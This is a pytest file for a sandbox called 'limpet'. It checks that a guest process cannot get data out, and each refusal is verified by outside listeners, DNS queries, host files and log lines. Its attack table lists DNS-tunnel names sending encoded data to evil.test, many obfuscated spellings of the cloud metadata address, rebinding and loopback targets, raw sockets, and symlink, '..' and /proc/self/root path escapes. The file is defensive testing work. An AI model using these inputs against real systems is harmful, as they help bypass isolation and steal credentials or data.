"""The ways by which something leaves a guest that has names, networks and a folder: one table.

A guest tries all of them in one run. What was refused is looked at from outside: by listeners on
the host and on a small Internet behind it, by its name server, and by what is in the host's
folders; and by the lines of the log. Each part has more attacks of its own beside it:
``test_broker``, ``test_datagrams``, ``test_names``, ``test_volumes``, ``test_ways_around``.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest

from limpet.contract import Backend
from tests.support import SUPPORT
from tests.support.bundles import Maker
from tests.support.internet import HOST, Internet, internet
from tests.support.names import AAAA, A, Record

GOOD, OTHER = "203.0.113.10", "203.0.113.11"
CONNECT = ("api.test:443", "*.wild.test:443", "192.0.2.0/24:443")
NO_NAME, NO_ADDRESS = "no --connect allows this name", "no --connect allows this address"
METADATA, PRIVATE = "a link-local address, as of metadata services", "a private address"
LOOPBACK, WORDS = "the host's loopback", "an IPv4 address in other words"
OTHER_PORT = "another port of an address that is allowed"
NO_SOCKETS = "there are no such sockets"


@dataclass(frozen=True)
class Attack:
    """What the guest tries, and what its operator reads of it in the log; nothing where the
    library OS refuses it by itself, and nobody outside is asked."""

    kind: str
    one: str
    two: str = "-"
    logged: str = ""


SPELLINGS = (
    *("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"),
    *("0xa9.0xfe.0xa9.0xfe", "::ffff:a9fe:a9fe", "2002:a9fe:a9fe::1"),
)

ATTACKS: dict[str, tuple[Attack, ...]] = {
    "DNS tunnel by labels": (
        Attack("tcp", "c2VjcmV0.evil.test", "443", NO_NAME),
        Attack("tcp", "c2VjcmV0.api.test", "443", NO_NAME),
        Attack("udp", "c2VjcmV0.evil.test", "53", NO_NAME),
    ),
    "metadata address in every spelling": (
        *(Attack("tcp", each, "443", METADATA) for each in SPELLINGS),
        Attack("tcp", "metadata.wild.test", "443", METADATA),
    ),
    "IPv4-mapped and NAT64": (
        Attack("tcp", "::ffff:10.0.0.5", "443", PRIVATE),
        Attack("tcp", "64:ff9b::a9fe:a9fe", "443", METADATA),
        Attack("tcp", "64:ff9b::10.0.0.5", "443", PRIVATE),
        Attack("tcp", "::169.254.169.254", "443", WORDS),
        Attack("tcp", "mapped.wild.test", "443", WORDS),
    ),
    "rebinding": (
        Attack("tcp", "inside.wild.test", "443", PRIVATE),
        Attack("tcp", "10.0.0.5", "443", PRIVATE),
    ),
    "loopback of the host": (
        Attack("tcp", "127.0.0.1", "443"),
        Attack("tcp", "::1", "443"),
        Attack("tcp", "0.0.0.0", "443"),
        Attack("tcp", "loopback.wild.test", "443", LOOPBACK),
        Attack("tcp", "64:ff9b::7f00:1", "443", LOOPBACK),
        Attack("tcp", HOST, "443", NO_ADDRESS),
    ),
    "other ports of an allowed host": (
        Attack("tcp", "api.test", "80", OTHER_PORT),
        Attack("tcp", "192.0.2.7", "80", OTHER_PORT),
        Attack("udp", "192.0.2.7", "443", OTHER_PORT),
    ),
    "redirect to another host": (
        Attack("tcp", "other.test", "443", NO_NAME),
        Attack("tcp", OTHER, "443", NO_ADDRESS),
    ),
    "raw sockets": (
        Attack("socket", "2", "3", NO_SOCKETS),
        Attack("socket", "10", "3", NO_SOCKETS),
    ),
    "AF_PACKET": (Attack("socket", str(int(socket.AF_PACKET)), "3", NO_SOCKETS),),
    "AF_VSOCK": (Attack("socket", str(int(socket.AF_VSOCK)), "1", NO_SOCKETS),),
    "abstract UNIX sockets of the host": (Attack("abstract", "NAME"), Attack("unix", "/w/socket")),
    "..": (
        Attack("read", "/w/../out/secret"),
        Attack("read", "/w/up/out/secret"),
        Attack("write", "/w/up/out/new"),
    ),
    "absolute symlinks": (
        Attack("read", "/w/absolute/secret"),
        Attack("write", "/w/absolute/new"),
    ),
    "/proc/self/root": (
        Attack("read", "/proc/self/rootTOP/out/secret"),
        Attack("read", "/proc/1/rootTOP/out/secret"),
    ),
    "magic links below a volume": (
        Attack("read", "/w/magicTOP/out/secret"),
        Attack("read", "/w/descriptor"),
        Attack("write", "/w/magicTOP/out/new"),
    ),
    "hard links out": (
        Attack("link", "/w/mine", "/w/../out/one"),
        Attack("link", "/w/mine", "/w/up/out/other"),
        Attack("link", "/w/absolute/secret", "/w/stolen"),
    ),
    "rename out": (
        Attack("rename", "/w/mine", "/w/up/out/moved"),
        Attack("rename", "/w/mine", "/w/absolute/new"),
        Attack("rename", "/w/absolute/secret", "/w/stolen"),
    ),
}
"""By their usual names. Netlink is there, and tells of the guest's own loopback alone
(``test_ways_around``). A descriptor goes along with all that is sent, with what is allowed too."""

ALLOWED = (Attack("tcp", "api.test", "443"), Attack("tcp", "192.0.2.7", "443"))
"""What is let through, so that the witnesses are seen to hear."""


@pytest.fixture(scope="module")
def far() -> Iterator[Internet]:
    """A small Internet, whose names lead to all that is refused."""
    with internet() as made:
        leads = {"api": GOOD, "other": OTHER, "metadata.wild": "169.254.169.254"}
        leads |= {"inside.wild": "10.0.0.5", "loopback.wild": "127.0.0.1"}
        for name, address in leads.items():
            made.names.tell(f"{name}.test", address)
            made.names.tell(f"{name}.test", [], kind=AAAA)
        mapped = [Record("mapped.wild.test", AAAA, "::ffff:169.254.169.254")]
        made.names.tell("mapped.wild.test", [])
        made.names.tell("mapped.wild.test", mapped, kind=AAAA)
        yield made


@pytest.fixture
def top(tmp_path: Path) -> Path:
    """A folder with a volume in it, and beside that what must stay as it is."""
    top = tmp_path / "top"
    for folder in ("w", "out"):
        (top / folder).mkdir(parents=True)
    (top / "w/mine").write_text("mine")
    (top / "out/secret").write_text("the host's")
    links = {"up": "..", "absolute": f"{top}/out", "magic": "/proc/self/root"}
    for name, to in (links | {"descriptor": "/proc/self/fd/0"}).items():
        (top / "w" / name).symlink_to(to)
    for each in top.rglob("*"):
        if not each.is_symlink():
            os.chown(each, 65534, 65534)
            each.chmod(0o777)
    for parent in (top, *top.parents[:-1]):
        parent.chmod(parent.stat().st_mode | 0o555)
    return top


def witness(stack: ExitStack, far: Internet, space: str, port: int, version: int) -> socket.socket:
    """It hears whoever connects to any address of a network namespace."""
    family = socket.AF_INET6 if version == 6 else socket.AF_INET
    made = stack.enter_context(far.make(space, family, socket.SOCK_STREAM))
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if version == 6:
        made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    made.bind(("::" if version == 6 else "0.0.0.0", port))
    made.listen(64)
    made.setblocking(False)
    return made


def heard(witness: socket.socket) -> list[tuple[object, ...]]:
    """Which addresses were connected to, what was said there, and what came along."""
    found: list[tuple[object, ...]] = []
    while True:
        try:
            peer, _ = witness.accept()
        except BlockingIOError:
            return found
        with peer:
            peer.settimeout(5)
            said, along, _, _ = peer.recvmsg(100, 1000)
            where = peer.getsockname()
            found.append((where[0] if where else "", said, along))


def test_nothing_leaves(make: Maker, backend: Backend, far: Internet, top: Path) -> None:
    """Each attack of the table: refused in the guest, seen by nobody outside, and logged."""
    program = make.compile(
        (SUPPORT / "programs" / "exfiltrate.c").read_text(encoding="utf-8"), "exfiltrate"
    )
    made = make(program, backend, connect=CONNECT, devices=("volume:/w",), log="log")
    tries = [each for every in ATTACKS.values() for each in every]
    name = f"limpet-{top.parent.name}"
    lines = [
        f"{each.kind} {each.one} {each.two}".replace("TOP", str(top)).replace("NAME", name)
        for each in (*ALLOWED, *tries)
    ]
    far.names.asked.clear()
    with ExitStack() as stack:
        outside = [
            witness(stack, far, far.far, port, version) for port in (443, 80) for version in (4, 6)
        ]
        hosts = [witness(stack, far, far.host, port, 4) for port in (443, 80)]
        hosts.append(witness(stack, far, far.host, 443, 6))
        for where in (b"\0" + name.encode(), str(top / "w/socket").encode()):
            local = stack.enter_context(far.make(far.host, socket.AF_UNIX, socket.SOCK_STREAM))
            local.bind(where)
            local.listen()
            local.setblocking(False)
            hosts.append(local)
        done = subprocess.run(
            far.inside(str(made.path), f"--volume:/w={top / 'w'}"),
            input="\n".join(lines) + "\n",
            capture_output=True,
            text=True,
            timeout=120,
            cwd=top.parent,
            check=True,
        )
        reached = sorted(each for one in outside for each in heard(one))
        assert reached == sorted((each, b"secret", []) for each in (GOOD, "192.0.2.7"))
        assert [each for one in hosts for each in heard(one)] == []
    ends = done.stdout.splitlines()
    assert len(ends) == len(lines), (ends, done.stderr)
    assert ends[: len(ALLOWED)] == ["done"] * len(ALLOWED)
    through = [
        (line, end)
        for line, end in zip(lines, ends, strict=True)
        if end in ("done", "the host's") and line not in lines[: len(ALLOWED)]
    ]
    assert not through
    wild = {f"{each}.wild.test" for each in ("metadata", "inside", "loopback", "mapped")}
    assert {each for each, _ in far.names.asked} == {"api.test", *wild}
    assert {each for _, each in far.names.asked} <= {A, AAAA}
    assert sorted(each.name for each in (top / "out").iterdir()) == ["secret"]
    assert (top / "out/secret").read_text() == "the host's"
    assert not (top / "w/stolen").exists() and (top / "w/mine").read_text() == "mine"
    lines = (top.parent / "log").read_text().splitlines()
    told = [json.loads(line)["why"] for line in lines]
    for why in {each.logged for each in tries if each.logged}:
        wanted = sum(each.logged == why for each in tries)
        assert sum(each.startswith(why) for each in told) >= wanted, (why, told)
